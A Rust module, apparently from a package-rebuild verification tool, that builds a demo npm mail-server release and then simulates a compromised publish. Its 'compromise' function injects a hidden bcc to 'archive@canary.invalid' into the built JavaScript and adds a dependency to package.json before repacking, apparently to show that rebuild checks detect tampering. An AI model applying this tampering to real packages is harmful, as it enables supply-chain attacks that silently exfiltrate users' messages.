//! Plays the publisher of the demo's releases, and the thief of his token.

use std::io::{Read as _, Write as _};
use std::path::{Path, PathBuf};

use anyhow::{Context as _, bail, ensure};
use remint_ecosystem::{PlanRequest, ToolHints};
use remint_fetch::source::{Overrides, SourceRequest, find_source};
use remint_model::{ArtifactFormat, BuildOutcome, Ecosystem, PackageName, Survey, Target};

use super::server;
use crate::build::Builder;
use crate::progress::Progress;

/// A release as it is put into the registry.
pub(super) struct Published {
    /// Its version.
    pub(super) version: String,
    /// Its tarball.
    pub(super) path: PathBuf,
}

/// Builds a release from its tag, as its maintainer would.
pub(super) async fn build(
    builder: &Builder,
    repository: &Path,
    version: &str,
    releases: &Path,
    progress: &Progress,
) -> anyhow::Result<Published> {
    let stage = progress.begin("publish", &format!("building release {version}"));
    let target = Target {
        ecosystem: Ecosystem::Npm,
        name: PackageName::parse(Ecosystem::Npm, server::NAME)?,
        version: version.parse()?,
        file: None,
    };
    let survey = Survey::default();
    let overrides = Overrides {
        source: Some(repository.display().to_string()),
        reference: Some(format!("v{version}")),
        subdirectory: None,
    };
    let search = (
        target.clone(),
        builder.settings.user.clone(),
        survey.clone(),
    );
    let found = tokio::task::spawn_blocking(move || {
        let (target, user, survey) = search;
        let request = SourceRequest {
            target: &target,
            release: None,
            claims: &[],
            survey: &survey,
            overrides,
            uploaded: None,
            ahead: None,
        };
        find_source(&request, &user)
    })
    .await?
    .context("cannot read the demo's repository")?;
    let plans = remint_ecosystem::plan(&PlanRequest {
        target: &target,
        format: ArtifactFormat::NpmTarball,
        file_name: &format!("remint-demo-postbox-{version}.tgz"),
        pin: &found.pin,
        tree: &found.tree,
        survey: &survey,
        uploaded: None,
        hints: &ToolHints::default(),
        platform: builder.platform,
        interpreters: builder.registries.interpreters(),
        toolchains: &[],
    })?;
    let plan = plans
        .first()
        .context("there is no plan for the demo's server")?;
    let executed = builder.execute(plan, &found, None, &stage).await?;
    match &executed.outcome {
        BuildOutcome::Built(artifact) => {
            let path = releases.join(artifact.name.as_str());
            fs_err::copy(&artifact.path, &path)?;
            stage.end(&format!("release {version}"));
            Ok(Published {
                version: version.to_owned(),
                path,
            })
        }
        BuildOutcome::Failed(failure) => bail!(
            "the demo's server did not build: `{}`\n{}",
            failure.step,
            failure.log_tail
        ),
    }
}

/// Adds one line to a built file and one dependency to the manifest, and packs everything as it was.
pub(super) fn compromise(release: &Published) -> anyhow::Result<Published> {
    let mut tar = Vec::new();
    flate2::read::GzDecoder::new(fs_err::File::open(&release.path)?).read_to_end(&mut tar)?;
    let mut builder = tar::Builder::new(Vec::new());
    let mut changed = 0;
    for entry in tar::Archive::new(tar.as_slice()).entries()? {
        let mut entry = entry?;
        let mut header = entry.header().clone();
        let path = entry.path()?.into_owned();
        let mut content = String::new();
        entry.read_to_string(&mut content)?;
        let tampered = match path.to_str() {
            Some("package/dist/outbox.js") => content.replacen(
                "        to: message.to,\n",
                "        to: message.to,\n        bcc: \"archive@canary.invalid\",\n",
                1,
            ),
            Some("package/package.json") => content.replacen(
                "  \"devDependencies\": {",
                "  \"dependencies\": {\n    \"plain-crypto-js\": \"4.2.1\"\n  },\n  \"devDependencies\": {",
                1,
            ),
            _ => content.clone(),
        };
        changed += usize::from(tampered != content);
        header.set_size(u64::try_from(tampered.len())?);
        header.set_cksum();
        builder.append_data(&mut header, &path, tampered.as_bytes())?;
    }
    ensure!(
        changed == 2,
        "the demo's server was built in an unexpected form"
    );
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&builder.into_inner()?)?;
    let path = release.path.with_extension("compromised.tgz");
    fs_err::write(&path, encoder.finish()?)?;
    Ok(Published {
        version: release.version.clone(),
        path,
    })
}
